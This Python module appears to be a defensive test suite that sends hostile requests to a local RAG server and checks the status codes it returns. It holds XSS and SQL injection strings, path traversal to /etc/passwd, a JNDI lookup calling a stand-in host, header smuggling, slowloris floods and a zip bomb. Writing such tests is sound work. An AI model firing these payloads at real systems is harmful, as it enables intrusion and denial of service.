"""Requests that mean a server no good, as values: what is sent, and what may come back.

:mod:`scripts.try_hostile_requests` sends them.
"""

from __future__ import annotations

import io
import json
import re
import socket
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import httpx

QUESTION = "How many days of paid holiday are there?"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Target:
    """The server: where it is, and a key that may ask and one that may do all."""

    port: int
    ask: str
    admin: str

    def http(self, method: str, path: str, *, key: str, **sent: Any) -> int:
        """The status of one well-formed request."""
        headers = {**({"Authorization": f"Bearer {key}"} if key else {}), **sent.pop("headers", {})}
        address = f"http://127.0.0.1:{self.port}{path}"
        with httpx.Client(timeout=60) as client:
            response = client.request(method, address, headers=headers, **sent)
        assert not re.search(r"Traceback|site-packages|root:x:0", response.text), response.text
        return response.status_code

    def raw(self, text: bytes) -> int:
        """The status of what is sent as it stands; 0 where the server only closed."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=30) as one:
            try:
                one.sendall(text)
                got = one.recv(65_536)
            except (ConnectionError, TimeoutError):
                return 0
        return int(got.split()[1]) if got.startswith(b"HTTP/") else 0


Send = Callable[[Target], int]
"""Sends something, and gives the status that came back; 0 where the server only closed."""


@dataclass(frozen=True)
class Try:
    """Something that is tried, and what may come back."""

    group: str
    what: str
    send: Send
    expected: tuple[int, ...]


def http(method: str, path: str, *, admin: bool = False, bare: bool = False, **sent: Any) -> Send:
    """A well-formed request, with an asker's key, an admin's, or none."""

    def send(target: Target) -> int:
        key = "" if bare else target.admin if admin else target.ask
        return target.http(method, path, key=key, **sent)

    return send


def said(line: str, headers: str, body: bytes = b"", *, host: str = "localhost") -> Send:
    """A request as it stands on the wire, with an asker's key."""

    def send(target: Target) -> int:
        key = f"Authorization: Bearer {target.ask}"
        head = f"{line} HTTP/1.1\r\nHost: {host}\r\n{key}\r\n{headers}\r\n"
        return target.raw(head.encode("latin-1") + body)

    return send


def keys() -> Iterator[Try]:
    """What is shown in place of a key."""
    for what, shown in {
        "no key": {},
        "a key that is none": {"Authorization": "Bearer rag_000000000000_" + "0" * 48},
        "a key of 20 kB": {"Authorization": "Bearer " + "x" * 20_000},
        "Basic": {"Authorization": "Basic cm9vdDpyb290"},
        "a cookie that is none": {"Cookie": "rag_session=" + "A" * 43},
        "SQL in the cookie": {"Cookie": "rag_session=' OR 1=1 --"},
        "a key in X-Api-Key": {"X-Api-Key": "rag_0"},
    }.items():
        yield Try(
            "key",
            what,
            http("GET", "/api/indexes", bare=True, headers=shown),
            (401,),
        )
    yield Try(
        "key",
        "an asker's, to remove a file",
        http("DELETE", "/api/documents?source=leave.md"),
        (403,),
    )
    yield Try(
        "key",
        "an asker's, to add a file",
        http("POST", "/api/documents", files={"file": ("a.md", b"# a")}),
        (403,),
    )
    yield Try("key", "an asker's, for metrics", http("GET", "/metrics"), (403,))


def names() -> Iterator[Try]:
    """Hosts, and pages of other sites."""
    for host in ("evil.example", "localhost.evil.example", "127.0.0.1.nip.io", "0x7f.1"):
        yield Try("host", host, said("GET /healthz", "", host=host), (421,))
    for host in ("", "a b", "localhost\r\nHost: evil.example", "[::1", "localhost:99999"):
        yield Try("host", repr(host), said("GET /healthz", "", host=host), (400,))
    yield Try(
        "host",
        "an absolute address",
        said("GET http://evil.example/healthz", ""),
        (400,),
    )
    for origin in ("http://evil.example", "null", "http://localhost:1"):
        yield Try(
            "other site",
            f"POST from {origin}",
            http("POST", "/api/session", bare=True, json={"key": "x"}, headers={"Origin": origin}),
            (403,),
        )
    yield Try(
        "other site",
        "a form",
        http("POST", "/api/session", bare=True, data={"key": "x"}),
        (415,),
    )
    preflight = {"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"}
    yield Try(
        "other site",
        "a preflight",
        http("OPTIONS", "/api/ask", bare=True, headers=preflight),
        (401,),
    )


def heads_and_bodies() -> Iterator[Try]:
    """What is too long, too slow, or could be read in two ways."""
    json_ = "Content-Type: application/json\r\n"
    for what, line, headers, body, expected in (
        ("a header of 40 kB", "GET /healthz", f"X: {'y' * 40_000}\r\n", b"", (431,)),
        ("1,000 headers", "GET /healthz", "X: y\r\n" * 1_000, b"", (431,)),
        ("an address of 40 kB", f"GET /healthz?{'y' * 40_000}", "", b"", (431,)),
        ("two lengths", "POST /api/search", f"{json_}Content-Length: 2\r\nContent-Length: 3\r\n", b"{}", (400,)),
        ("length -1", "POST /api/search", f"{json_}Content-Length: -1\r\n", b"", (400,)),
        ("an unknown coding", "POST /api/search", f"{json_}Transfer-Encoding: x\r\n", b"", (400, 501)),
        ("chunked, identity", "POST /api/search", f"{json_}Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n", (400, 501)),
        ("a chunk of no size", "POST /api/search", f"{json_}Transfer-Encoding: chunked\r\n", b"zz\r\n", (0, 400)),
        ("a chunk of 2^70 bytes", "POST /api/search", f"{json_}Transfer-Encoding: chunked\r\n", b"f" * 18 + b"\r\n", (0, 400, 408)),
        ("a header without a colon", "GET /healthz", "x\r\n", b"", (400,)),
        ("NUL in a header", "GET /healthz", "X: \0\r\n", b"", (400,)),
        ("a space before the colon", "GET /healthz", "X : y\r\n", b"", (400,)),
        ("a body said to have 1 GB", "POST /api/ask", f"{json_}Content-Length: 1000000000\r\n", b"", (413,)),
        ("an upload said to have 1 GB", "POST /api/documents", "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 1000000000\r\n", b"", (413,)),
        ("3 MB in chunks", "POST /api/ask", f"{json_}Transfer-Encoding: chunked\r\n", (b"10000\r\n" + b"x" * 65_536 + b"\r\n") * 46 + b"0\r\n\r\n", (413,)),
        ("a body that stops", "POST /api/ask", f"{json_}Content-Length: 100\r\n", b"{", (408,)),
        ("no HTTP", "\x16\x03\x01", "", b"", (400,)),
        ("HTTP/2 without asking", "PRI *", "", b"", (400,)),
        ("CONNECT", "CONNECT evil.example:443", "", b"", (400,)),
        ("TRACE", "TRACE /", "", b"", (405, 415)),
        ("a websocket", "GET /api/indexes", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n", b"", (200,)),
    ):  # fmt: skip
        yield Try(
            "head or body",
            what,
            said(line, headers, body),
            expected,
        )
    yield Try("slow", "100 connections that say nothing, and one that asks", _crowd, (200,))
    yield Try("slow", "headers that never end", _drip, (0,))


def _crowd(target: Target) -> int:
    crowd = [socket.create_connection(("127.0.0.1", target.port)) for _ in range(100)]
    try:
        return target.http("POST", "/api/ask", key=target.ask, json={"question": QUESTION})
    finally:
        for one in crowd:
            one.close()


def _drip(target: Target) -> int:
    """0 where the connection was closed, within a bounded number of drops."""
    with socket.create_connection(("127.0.0.1", target.port), timeout=0.2) as one:
        one.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n")
        for _ in range(100):
            try:
                one.sendall(b"X: y\r\n")
                if not one.recv(1):
                    return 0
            except TimeoutError:
                continue
            except OSError:
                return 0
    return 200


def paths() -> Iterator[Try]:
    """Ways out of the page's folder, and to what is not there."""
    for path in (
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/..%5capp.py",
        "/static//etc/passwd",
        "/static/%00",
        "/static/C:/x",
        "//etc/passwd",
        "/..%2f..%2fetc/passwd",
        "/.git/config",
        "/docs",
        "/state.sqlite",
        f"/{'a/' * 5_000}",
        "/%ff%fe",
    ):
        shown = path if len(path) < 60 else f"{path[:20]}... ({len(path):,} characters)"
        yield Try("path", shown, said(f"GET {path}", ""), (400, 404))
    for path in (
        "/api/documents/99999999",
        "/api/documents/1/pages/99999999",
        "/api/conversations/..%2f..%2fx",
        "/api/jobs/%27%20OR%201=1",
        "/api/reports/..%2f..%2fserve.toml",
    ):
        yield Try("path", path, http("GET", path, admin=True), (404, 422))
    for path in (
        "/api/documents/-1",
        "/api/documents/1e9",
        f"/api/documents/{'9' * 400}",
        "/api/documents?limit=1e99",
    ):
        shown = path if len(path) < 60 else f"{path[:20]}... ({len(path):,} characters)"
        yield Try("path", shown, http("GET", path), (400, 404, 422))


def questions() -> Iterator[Try]:
    """What is asked, and how."""
    for what, question in {
        "script": SCRIPT,
        "SQL": "'; DROP TABLE documents; --",
        "full text's own syntax": 'source:* AND (("a" OR b)) ^9999 ~~~ [* TO *]',
        "a template": "{{7*7}} ${jndi:ldap://evil.example/x} %n%s%x",
        "control characters": "a\u0000b\u001b[2J\r\nSet-Cookie: x=y",
        "right to left, and joined": "\u202e\u2066" + "\u0301" * 500,
        "half a character": json.loads('"\\ud800"'),
        "other letters": "\U0001f600" * 900,
        "one word of 4,000 letters": "x" * 4_000,
        "4,001 letters": "x" * 4_001,
    }.items():
        body = json.dumps({"question": question}).encode()
        yield Try(
            "question",
            what,
            http("POST", "/api/ask", content=body, headers=JSON),
            (200, 400, 413, 422),
        )
    for what, value in {
        "not JSON": b"{",
        "nested 100,000 deep": b"[" * 100_000,
        "a number of 100,000 digits": b'{"question": ' + b"9" * 100_000 + b"}",
        "NaN": b'{"question": "a", "k": NaN}',
        "not UTF-8": b'{"question": "\xff"}',
        "k = 10^9": b'{"question": "a", "k": 1000000000}',
        "a filter by what is no field": b'{"question": "a", "where": {"__class__": "*"}}',
        "a filter that backtracks": json.dumps(
            {"question": "a", "where": {"source": "*a" * 500}}
        ).encode(),
        "an index by a path": b'{"question": "a", "index": "../../etc"}',
        "another's conversation": b'{"question": "a", "conversation": "1"}',
    }.items():
        path = "/api/ask" if "conversation" in what else "/api/search"
        yield Try(
            "question",
            what,
            http("POST", path, content=value, headers=JSON),
            (200, 400, 404, 422),
        )


def uploads() -> Iterator[Try]:
    """Files by names and of kinds that could do harm. 202: taken, under a name that does none; what cannot be read is said."""
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b"<a>" + b"\0" * 50_000_000)
    for what, name, data in (
        ("../../escaped.md", "../../escaped.md", b"# a"),
        ("/etc/cron.d/x.md", "/etc/cron.d/x.md", b"# a"),
        ("..\\..\\escaped.md", "..\\..\\escaped.md", b"# a"),
        ("a name of dots", "...md", b"# a"),
        ("CON.md", "CON.md", b"# a"),
        (".ragignore", ".ragignore", b"*"),
        ("NUL in the name", "a\0.md", b"# a"),
        ("script as a name", f"{SCRIPT[:24]}.md", b"# a"),
        ("a name of 5,000 letters", "n" * 5_000 + ".md", b"# a"),
        ("a program", "x.exe", b"MZ\x90\0" + b"\0" * 100),
        ("a bomb as .docx", "bomb.docx", bomb.getvalue()),
        ("no PDF as .pdf", "x.pdf", b"\x89PNG not a pdf"),
        ("script in Markdown", "s.md", f"# {SCRIPT}\n".encode()),
    ):
        yield Try(
            "upload",
            what,
            http("POST", "/api/documents", admin=True, files={"file": (name, data)}),
            (202, 400, 415, 422),
        )
    yield Try(
        "upload",
        "a form without a file",
        http("POST", "/api/documents", admin=True, files={"other": b""}),
        (400, 422),
    )
    yield Try(
        "upload",
        "6 MB",
        http("POST", "/api/documents", admin=True, files={"file": ("l.md", b"x" * 6_000_000)}),
        (413,),
    )


def agents() -> Iterator[Try]:
    """The protocol of agents, and the API of OpenAI's clients."""
    for what, path, body in (
        ("no message", "/mcp", b"{}"),
        ("a session that is none", "/mcp", b'{"jsonrpc":"2.0","id":1,"method":"tools/list"}'),
        ("not JSON", "/mcp", b"\xff"),
        ("messages of the wrong kind", "/v1/chat/completions", b'{"model":"demo","messages":7}'),
        (
            "a model that is none",
            "/v1/chat/completions",
            b'{"model":"x","messages":[{"role":"user","content":"a"}]}',
        ),
        (
            "100,000 inputs",
            "/v1/embeddings",
            json.dumps({"model": "demo", "input": ["a"] * 100_000}).encode(),
        ),
    ):
        yield Try(
            "other doors",
            f"{path}: {what}",
            http("POST", path, content=body, headers={**JSON, "Mcp-Session-Id": "x"}),
            (400, 404, 406, 413, 422),
        )


def tries() -> Iterator[Try]:
    """All of them."""
    for group in (keys, names, heads_and_bodies, paths, questions, uploads, agents):
        yield from group()
